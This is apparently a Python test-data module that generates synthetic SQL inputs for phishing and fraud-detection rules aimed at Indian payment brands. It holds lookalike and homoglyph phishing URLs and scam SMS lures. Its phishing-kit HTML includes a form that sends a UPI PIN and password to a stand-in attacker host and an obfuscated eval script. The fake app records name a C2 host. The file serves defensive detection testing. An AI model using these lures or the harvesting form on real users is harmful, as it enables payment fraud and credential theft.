"""Inputs of the registered queries, as SQL that Spark and any ANSI engine read alike, over the tables of a data folder."""

import re

from pyspark.sql import DataFrame, SparkSession

TABLES = "region nation customer supplier part orders lineitem events documents embeddings pages benchmark labels conversations".split()

#: URLs that the rules are meant for; {n} is replaced by a number of the row.
URLS = [
    "http://phonepe-kyc-update.top/login?u={n}", "https://www.phonepe.com/", "http://paytm.com.verify-{n}.xyz/reward", "https://secure.phonpe.in/{n}", "http://paytn-wallet{n}.com", "http://gogle-pay{n}.site",
    "https://onlinesbi.sbi/portal", "http://sbi-rewards{n}.shop/points", "http://mysbi.{n}.co.in/", "http://lesbian-news{n}.com/sbi", "https://hdfcnetbanking{n}.online", "http://hdfc{n}.vercel.app/verify",
    "https://bit.ly/{n}", "http://192.168.{n}.4/pay", "http://icicibank.co.in.secure-login{n}.club/", "http://evil{n}.tk/icicibank.co.in/netbanking", "http://user@evil{n}.tk:8080/x@paytm.com", "https://a-very-long-host-name-for-testing-purposes-{n}.example.com/",
    "http://pаytm{n}.com/kyc", "http://axisbnak{n}.info", "http://upi-cashback{n}.live/claim#a", "HTTPS://WWW.Example.COM:443/Path/{n}?Q=1#frag", "http://example.org:8080/", "example.net/{n}",
    "http://bhimupi{n}.github.io", "http://payment{n}.com/refund", "http://yonolite{n}.pages.dev/", "http://goog1epay{n}.cc", "http://рhonepe-support{n}.help", "http://axisbank{n}.co.in/blocked", "http://npci.org.in/what/{n}", "http://münchen-pay{n}.de",
]
#: Messages for the lure rules; {n} is replaced by a number of the row.
TEXTS = [
    "Dear SBI user, your account will be blocked today. Update KYC: pay Rs 10 to sbi.kyc{n}@okaxis or call 98765432{n}",
    "Your OTP is 48{n}12. Do not share it with anyone.",
    "Send the rent to ravi.k{n}@okhdfcbank please",
    "You won a prize! Claim cashback at http://paytm-reward{n}.top/claim, contact @lucky_draw{n} on t.me/luckydraw{n}",
    "Card 4111111111111{n} of your Paytm wallet is suspended. Share card number and CVV immediately",
    "Meeting moved to {n} o'clock, see you there",
    "Download the PhonePe app from https://apk.host{n}.in/pay.apk). Helpline +91 91234{n}5678",
    "",
]


def _values(rows: list[str]) -> str:
    return ", ".join("({}, '{}')".format(i, r.replace("'", "''")) for i, r in enumerate(rows))


URL_ROWS = f"""SELECT e.event_id AS id, e.ts, replace(t.url, '{{n}}', CAST(e.user_id + 100 AS VARCHAR(12))) AS url
    FROM events e JOIN (VALUES {_values(URLS)}) t(k, url) ON e.event_id % {len(URLS)} = t.k"""
TEXT_ROWS = f"""SELECT e.event_id AS id, replace(t.text, '{{n}}', CAST(e.user_id + 100 AS VARCHAR(12))) AS text
    FROM events e JOIN (VALUES {_values(TEXTS)}) t(k, text) ON e.event_id % {len(TEXTS)} = t.k"""
#: Assets as the state of sightings would have them: points are hundredths of a score.
ASSETS = """SELECT event_id AS id, ts AS first_seen, CASE WHEN event_id % 3 = 0 THEN NULL ELSE ts + INTERVAL '1' DAY END AS last_seen,
    CASE WHEN value > 100 THEN 100 ELSE CAST(floor(value) AS INT) END AS points,
    CASE WHEN value >= 70 THEN 'malicious' WHEN value >= 40 THEN 'suspicious' ELSE 'benign' END AS verdict,
    CASE WHEN event_type = 'signup' THEN 'app' WHEN event_type = 'click' THEN 'message' ELSE 'web' END AS kind,
    CASE WHEN event_id % 5 = 0 THEN NULL WHEN event_id % 5 < 3 THEN 'sbi' ELSE 'paytm' END AS brand,
    CASE WHEN event_id % 7 = 0 THEN 'false_positive' WHEN event_id % 7 = 1 THEN 'confirmed' ELSE 'unreviewed' END AS review,
    CASE WHEN event_id % 4 = 0 THEN NULL ELSE event_id % 4 = 1 END AS live, event_type AS source,
    'host' || CAST(user_id AS VARCHAR(12)) || CASE WHEN user_id % 5 = 0 THEN '.web.app' WHEN user_id % 5 = 1 THEN '.co.in' ELSE '.example.com' END AS domain, user_id
    FROM events"""
ENTITIES = """SELECT id, 'upi_id' AS type, 'u' || CAST(floor(id / 4) AS BIGINT) || '@okaxis' AS value, FALSE AS shared_hosting FROM a WHERE id % 4 <> 3
    UNION ALL SELECT id, 'phone', CAST(9000000000 + CAST(floor((id + 2) / 8) AS BIGINT) AS VARCHAR(12)), FALSE FROM a WHERE id % 3 = 0 AND id % 64 < 40
    UNION ALL SELECT id, 'ip', '10.0.' || CAST(CAST(floor(id / 64) AS BIGINT) AS VARCHAR(12)) || '.1', id % 2 = 0 FROM a WHERE id % 16 < 3
    UNION ALL SELECT id, 'asn', 'AS' || CAST(user_id % 20 AS VARCHAR(12)), FALSE FROM a
    UNION ALL SELECT id, 'domain', upper(domain), FALSE FROM a WHERE id % 50 = 0
    UNION ALL SELECT id, 'domain', 'bit.ly', FALSE FROM a WHERE id % 9 = 0"""
FLAGGED = "verdict <> 'benign' AND review <> 'false_positive'"


def with_assets(tail: str, where: str = "TRUE") -> str:
    """SQL with a, the assets, and e, their entities."""
    return f"WITH a AS (SELECT * FROM ({ASSETS}) x WHERE {where}), e AS ({ENTITIES}) {tail}"


def sql(spark: SparkSession, sf_dir: str, text: str) -> DataFrame:
    """text over the tables of the folder; the views are of this call's session alone."""
    own = spark.newSession()
    for name in TABLES:
        if re.search(rf"\b{name}\b", text):
            own.read.parquet(f"{sf_dir}/{name}.parquet").createOrReplaceTempView(name)
    df = own.sql(text.replace("VARCHAR(12)", "STRING"))
    return DataFrame(df._jdf, spark)

#: What kits add to a page; no single quotes or backslashes, which the engines read differently.
KITS = [
    "",
    '<form action="https://collect.evil.example/post" method=POST><input name="upi_pin" type="text"><input type="password" name=pwd></form>',
    '<form action="/login"><input name="user" placeholder="Enter OTP &amp; go"><input name="shipping"></form>',
    '<script>eval(atob("YWJj"));document.write("x")</script>',
    '<a href="/files/pay.apk">app</a><a href="https://cdn.example.net/x.apk?v=1">more</a><a href="files/z.apk">z</a>',
    "<p>Please verify your account. Your account will be  blocked today. Enter your UPI PIN</p>",
    "<title>PhonePe UPI secure payment</title><p>phonepe upi pay wallet payment secure money transaction</p>",
    '<script src="https://www.googletagmanager.com/gtag/js?id=G-ABCDEF1234"></script><script>ga("create", "UA-123456-7"); x = "G-ABCDEF1234"</script> G-NOTINCODE1',
    "<title>Just a moment...</title><p>checking your browser</p>",
    '<form action="//other.example.org/x"><input name=email></form><link rel="shortcut icon" href="/fav.ico"><form action="mailto:a@b.c"></form>',
    '<form><input name="cvv"></form> Enter your card number &lt;now&gt;',
    '<script>var b="' + "QUJD" * 40 + '"</script><form action="x"><input name="atm">',
]
CAPTURES = f"""SELECT p.page_id, replace(u.url, '{{n}}', CAST(p.page_id % 900 + 100 AS VARCHAR(12))) AS url, p.html || t.html AS html
    FROM pages p JOIN (VALUES {_values(URLS)}) u(k, url) ON p.page_id % {len(URLS)} = u.k JOIN (VALUES {_values(KITS)}) t(k, html) ON CAST(floor(p.page_id / 3) AS BIGINT) % {len(KITS)} = t.k"""

#: Package, label, permissions by their numbers, strings, whether there's a launcher.
APPS = [
    ("com.phonepe.app", "PhonePe", "0", "https://www.phonepe.com/help", "1"),
    ("com.fake.phonepe", "PhonePe Rewards", "0,3", "https://c2.evil{n}.top/x|pay sbi.kyc{n}@okaxis now", "1"),
    ("org.game.tower", "Tower", "", "https://schemas.android.com/apk|https://www.googleapis.com/a", "1"),
    ("com.hdfcbank.payzapp", "PayZapp", "4,6", "", "1"),
    ("com.secure.update", "Paytn Update", "1,5,7,8", "1234567890:AAabcdefghijklmnopqrstuvwxyz0123456789|https://t.me/gang_{n}", "0"),
    ("in.kyc.icici{n}", "Bank KYC", "2,9,10,11", "call 98765432{n}|x 9876500000 y|+91 9123456{n}0", "1"),
    ("com.notes", "Notes", "8", "t.me/Notes_Help|http://cdn.notes{n}.io/a|http://cdn.notes{n}.io/b", "1"),
    ("com.axisbnak.help", "Help", "0,1", "https://paytm.com/x", "1"),
]
_APP_ROWS = ", ".join("({}, {})".format(i, ", ".join(f"'{x}'" for x in r)) for i, r in enumerate(APPS))
APP_ROWS = f"""SELECT e.event_id, md5(CAST(e.event_id AS VARCHAR(12))) AS sha256, replace(t.package, '{{n}}', CAST(e.user_id + 100 AS VARCHAR(12))) AS package, t.label, t.permits, replace(t.strings, '{{n}}', CAST(e.user_id + 100 AS VARCHAR(12))) AS strings,
    t.launcher = '1' AS has_launcher, CASE WHEN e.event_id % 3 = 0 THEN NULL ELSE 'cert' || CAST(e.user_id % 5 AS VARCHAR(12)) END AS cert, CASE WHEN e.event_id % 4 = 0 THEN 'http://dl' || CAST(e.user_id AS VARCHAR(12)) || '.example.org/a.apk' END AS origin_url
    FROM events e JOIN (VALUES {_APP_ROWS}) t(k, package, label, permits, strings, launcher) ON e.event_id % {len(APPS)} = t.k"""

#: Assets as casework has them.
CASE_ASSETS = f"""SELECT id, CASE WHEN id % 6 = 0 THEN NULL ELSE 'camp-' || CAST(user_id % 40 AS VARCHAR(12)) END AS campaign, kind, review, verdict, points, brand, first_seen, last_seen, source,
    CASE WHEN id % 97 = 0 THEN '203.0.113.' || CAST(user_id % 200 AS VARCHAR(12)) ELSE domain END AS domain, 'https://' || domain || '/p' || CAST(id % 7 AS VARCHAR(12)) AS url,
    CASE WHEN id % 4 = 0 THEN NULL ELSE 'Registrar ' || CAST(user_id % 9 AS VARCHAR(12)) END AS registrar, CASE WHEN id % 4 = 1 THEN 'abuse@r' || CAST(user_id % 9 AS VARCHAR(12)) || '.example' END AS registrar_contact,
    CASE WHEN id % 5 < 3 THEN 'AS' || CAST(user_id % 20 AS VARCHAR(12)) END AS asn, CASE WHEN id % 5 < 2 THEN 'Net ' || CAST(user_id % 20 AS VARCHAR(12)) END AS as_name, 'abuse@net' || CAST(user_id % 20 AS VARCHAR(12)) || '.example' AS host_contact,
    'com.app' || CAST(user_id AS VARCHAR(12)) AS package, md5(CAST(id AS VARCHAR(12))) AS sha256, 'App ' || CAST(user_id AS VARCHAR(12)) AS label, 'Pay|now ' || CAST(id AS VARCHAR(12)) AS excerpt, CASE WHEN id % 3 > 0 THEN 'punycode; ip_host' END AS reasons,
    CASE WHEN id % 3 = 1 THEN '1.' || CAST(id % 10 AS VARCHAR(12)) END AS version, CASE WHEN id % 4 > 0 THEN 'c' || CAST(id % 5 AS VARCHAR(12)) || ',d' || CAST(id % 7 AS VARCHAR(12)) END AS cert_list, CASE WHEN id % 5 = 0 THEN 'http://dl' || CAST(user_id AS VARCHAR(12)) || '.example/a.apk' END AS origin_url, CASE WHEN id % 6 = 1 THEN 'https://shots.example/' || CAST(id AS VARCHAR(12)) || '.png' END AS screenshot, user_id
    FROM ({ASSETS}) z"""


def with_case_assets(tail: str) -> str:
    """SQL with a, the assets of casework, and e, their entities."""
    return f"WITH a AS ({CASE_ASSETS}), e AS ({ENTITIES}) {tail}"
